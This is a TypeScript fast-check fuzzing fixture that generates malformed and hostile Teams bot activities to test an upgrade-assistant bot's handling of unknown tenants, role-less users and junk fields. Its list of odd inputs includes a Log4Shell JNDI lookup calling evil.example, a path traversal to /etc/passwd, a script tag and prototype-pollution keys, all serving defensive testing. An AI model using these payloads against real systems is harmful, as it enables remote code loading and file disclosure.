import fc from 'fast-check';
import { verbs } from '../../src/upgrade/run/commands.js';

/** What somebody may send who has no business here: activities that are nearly right, and some that are not at all. */

type Aim = {
  /** Where an answer would go. */
  serviceUrl: string;
  /** The tenants that are aimed at, and one that nobody knows. */
  tenants: readonly string[];
  /** People of those tenants, none of whom has a role. */
  people: readonly string[];
  /** What exists there. */
  runIds: readonly string[];
};

const oddTexts = [
  '',
  '\ud800',
  '\u0000',
  '__proto__',
  'constructor',
  '../../etc/passwd',
  '$' + '{jndi:ldap://evil.example/a}',
  '{{DATE(2026-01-01T00:00:00Z,SHORT)}}',
  '[click](https://evil.example)',
  '<at>Upgrade Assistant</at> <script>alert(1)</script>',
  'x'.repeat(3_000),
  '🤖'.repeat(300),
  '٣',
  'a\u202eb',
];
const words = [
  ...['upgrade', 'status', 'help', 'history', 'stop', 'retry', 'resume', 'undo', 'report', 'follow', 'unfollow', 'yes'],
  ...['cancel the old plan', 'place the order', 'pilot 5', 'schedule 2026-12-05 22:00', 'language sv', 'uppgradera'],
];

const junk = fc.oneof(fc.constantFrom(...oddTexts), fc.string({ unit: 'binary', maxLength: 40 }), fc.jsonValue());
const or = <T>(usual: fc.Arbitrary<T>, weight = 8): fc.Arbitrary<unknown> =>
  fc.oneof({ weight, arbitrary: usual }, { weight: 1, arbitrary: junk });

export function hostileActivity({ serviceUrl, tenants, people, runIds }: Aim): fc.Arbitrary<Record<string, unknown>> {
  const runId = or(fc.constantFrom(...runIds));
  const tenantId = or(fc.constantFrom(...tenants), 20);
  const verb = or(fc.constantFrom<string>(...verbs, 'check', 'help', 'useScenario', 'saveReport', 'contactSupport'));
  const data = fc.record(
    {
      runId,
      revision: or(fc.integer({ min: 0, max: 9 })),
      plan: or(fc.constantFrom('SPE_E5', 'SPE_E3', 'ENTERPRISEPACK')),
      quantity: or(fc.constantFrom('5', '-1', '1e9', '99999999')),
      confirm: or(fc.constant('true')),
      understood: or(fc.constant('true')),
      tenantId,
      scenario: or(fc.constant('fabrikam')),
      file: or(fc.constant('people')),
      verb,
    },
    { requiredKeys: [] },
  );
  const action = fc.record({ type: or(fc.constant('Action.Execute')), verb, data: or(data) }, { requiredKeys: [] });
  const person = or(fc.constantFrom(...people), 20).map((id) => ({
    id: `29:${typeof id === 'string' ? id : JSON.stringify(id)}`,
    name: 'Eve',
    aadObjectId: id,
  }));
  const conversation = fc.record(
    {
      id: or(
        fc.constantFrom(...tenants).map((tenant) => `a:${tenant}`),
        20,
      ),
      tenantId,
      conversationType: or(fc.constantFrom('personal', 'groupChat', 'channel')),
      isGroup: or(fc.boolean()),
    },
    { requiredKeys: ['id', 'tenantId'] },
  );
  return fc.record(
    {
      type: or(fc.constantFrom('message', 'invoke', 'conversationUpdate', 'installationUpdate', 'messageReaction'), 20),
      name: or(fc.constantFrom('adaptiveCard/action', 'fileConsent/invoke', 'task/fetch', 'signin/verifyState')),
      id: or(fc.constant('1')),
      action: or(fc.constantFrom('add', 'remove', 'upgrade')),
      channelId: or(fc.constant('msteams')),
      serviceUrl: or(fc.constant(serviceUrl), 30),
      replyToId: or(fc.constant('2')),
      text: or(fc.constantFrom(...words)),
      locale: or(fc.constantFrom('en-US', 'sv-SE')),
      localTimezone: or(fc.constant('Europe/Stockholm')),
      value: or(fc.oneof(fc.record({ action: or(action), trigger: fc.constant('manual') }), data)),
      from: or(person, 30),
      recipient: or(fc.constant({ id: '28:bot' })),
      conversation: or(conversation, 30),
      channelData: or(fc.record({ tenant: fc.record({ id: tenantId }) })),
      entities: or(fc.constant([{ type: 'clientInfo', timezone: 'Europe/Stockholm' }])),
      membersAdded: or(fc.constant([{ id: '28:bot' }])),
      membersRemoved: or(fc.constant([{ id: '28:bot' }])),
    },
    { requiredKeys: ['type', 'serviceUrl', 'from', 'conversation', 'channelData'] },
  );
}
